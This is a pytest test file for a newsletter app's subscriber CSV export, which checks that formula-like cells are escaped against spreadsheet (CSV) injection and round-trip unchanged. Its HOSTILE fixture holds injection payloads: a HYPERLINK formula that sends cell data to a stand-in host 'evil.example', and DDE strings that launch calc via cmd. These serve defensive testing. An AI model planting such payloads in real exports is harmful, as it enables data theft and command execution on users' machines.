"""``subscribers export`` is safe to open in a spreadsheet (OWASP CSV injection), and imports back
unchanged. With LibreOffice installed (``soffice``), the export is opened in it headless and every
cell must come out as text; without it that test is skipped and the byte-level rule still holds.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import sqlalchemy as sa

from newsletter.models import consent_table, status_event_table, subscriber_table, utcnow
from newsletter.subscribers.csv_files import EXPORT_COLUMNS, for_spreadsheet, from_spreadsheet
from tests.conftest import run_cli

HOSTILE = {
    "formula@example.org": '=HYPERLINK("https://evil.example/?"&A2,"Click me")',
    "plus@example.org": "+1+cmd|' /C calc'!A0",
    "minus@example.org": "-2+3",
    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab@example.org": "\t=1+1",
    "cr@example.org": "\r=1+1",
    "quoted@example.org": "'=already quoted",
    "quotes@example.org": "''-two quotes",
    "tis@example.org": "'Tis the season",
    "plain@example.org": "Ann Lee",
    "=cmd|'/Ccalc'!A0@example.org": "an address that is a formula",
    "-dash@example.org": "",
}
RULE = re.compile(r"[=+\-@\t\r]")  # OWASP: what a spreadsheet may take as a formula


def _insert(engine: sa.Engine) -> None:
    """The hostile rows as they may sit in the store (the tab and CR names as an older version or
    another tool could have left them: ``subscribers add`` would tidy those)."""
    now = utcnow()
    rows = [
        {"key": f"{n:032x}", "email": email, "name": name, "status": "confirmed",
         "created_at": now, "confirmed_at": now}
        for n, (email, name) in enumerate(HOSTILE.items())
    ]  # fmt: skip
    with engine.begin() as connection:
        connection.execute(subscriber_table.insert(), rows)


def _export() -> str:
    code, out, err = run_cli("subscribers", "export")
    assert code == 0, err
    return out


def test_formula_cells_get_a_leading_apostrophe(store):
    _insert(store)
    rows = list(csv.reader(io.StringIO(_export())))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    cells = {(row[0], row[1]) for row in rows[1:]}
    for cell in (c for pair in cells for c in pair):
        assert not RULE.match(cell), cell  # nothing a spreadsheet would run
    assert ("plain@example.org", "Ann Lee") in cells  # ordinary cells untouched
    assert ("tis@example.org", "'Tis the season") in cells  # an apostrophe and text: as is
    assert ("formula@example.org", "'" + HOSTILE["formula@example.org"]) in cells
    assert ("quoted@example.org", "''=already quoted") in cells  # so import can undo exactly
    assert ("'=cmd|'/Ccalc'!A0@example.org", "an address that is a formula") in cells
    assert ("'-dash@example.org", "") in cells


@pytest.mark.parametrize("cell", ["", "a", "'", "''", "'a", "=", "'=", "''=x", "-1", "\t", "@@"])
def test_the_spreadsheet_mark_round_trips_any_cell(cell):
    assert from_spreadsheet(for_spreadsheet(cell)) == cell
    assert not RULE.match(for_spreadsheet(cell))


def test_export_then_import_gives_back_the_same_addresses_and_names(store, tmp_path):
    _insert(store)
    exported = tmp_path / "export.csv"
    exported.write_text(_export(), encoding="utf-8")
    with store.begin() as connection:  # an empty list to import into
        for table in (status_event_table, consent_table, subscriber_table):
            connection.execute(table.delete())
    code, _, err = run_cli("subscribers", "import", str(exported), "--confirmed", "--source", "t")
    assert code == 0, err
    with store.connect() as connection:
        query = sa.select(subscriber_table.c.email, subscriber_table.c.name)
        found = {row.email: row.name for row in connection.execute(query)}
    # import tidies control characters in names (clean_name): the tab and CR names lose them
    expected = {e: " ".join(n.split()) for e, n in HOSTILE.items()}
    assert found == expected


def _libreoffice_cells(csv_file: Path, folder: Path) -> list[list[tuple[str, bool, str]]]:
    """The CSV opened in LibreOffice Calc (headless): per cell (value type, is a formula, text)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice is not None
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{folder / 'profile'}",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder),
         str(csv_file)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    office = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
    text = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
    root = ET.parse(folder / (csv_file.stem + ".fods")).getroot()
    return [
        [
            (
                cell.get(f"{office}value-type") or "",
                cell.get(f"{table}formula") is not None,
                "\n".join("".join(p.itertext()) for p in cell.iter(f"{text}p")),
            )
            for cell in row.findall(f"{table}table-cell")
        ]
        for row in root.iter(f"{table}table-row")
    ]


@pytest.mark.skipif(
    not (shutil.which("soffice") or shutil.which("libreoffice")),
    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)",
)
def test_libreoffice_opens_every_exported_cell_as_text(store, tmp_path):
    _insert(store)
    out = _export()
    (tmp_path / "export.csv").write_text(out, encoding="utf-8")
    # the same rows written as before this fix: LibreOffice runs the formula
    raw = io.StringIO()
    csv.writer(raw, lineterminator="\n").writerows(HOSTILE.items())
    (tmp_path / "raw.csv").write_text(raw.getvalue(), encoding="utf-8")
    unsafe = _libreoffice_cells(tmp_path / "raw.csv", tmp_path)
    assert any(formula for row in unsafe for _, formula, _ in row)

    rows = _libreoffice_cells(tmp_path / "export.csv", tmp_path)
    assert len(rows) == len(HOSTILE) + 1
    assert not any(formula for row in rows for _, formula, _ in row)
    cells = [c for row in rows for c in row[:2]]  # email and name (times may be dates)
    assert all(kind == "string" for kind, _, _ in cells if kind)
    shown = {text for _, _, text in cells}
    assert "'" + HOSTILE["formula@example.org"] in shown  # shown as text, mark and all
    assert "Ann Lee" in shown and "'Tis the season" in shown
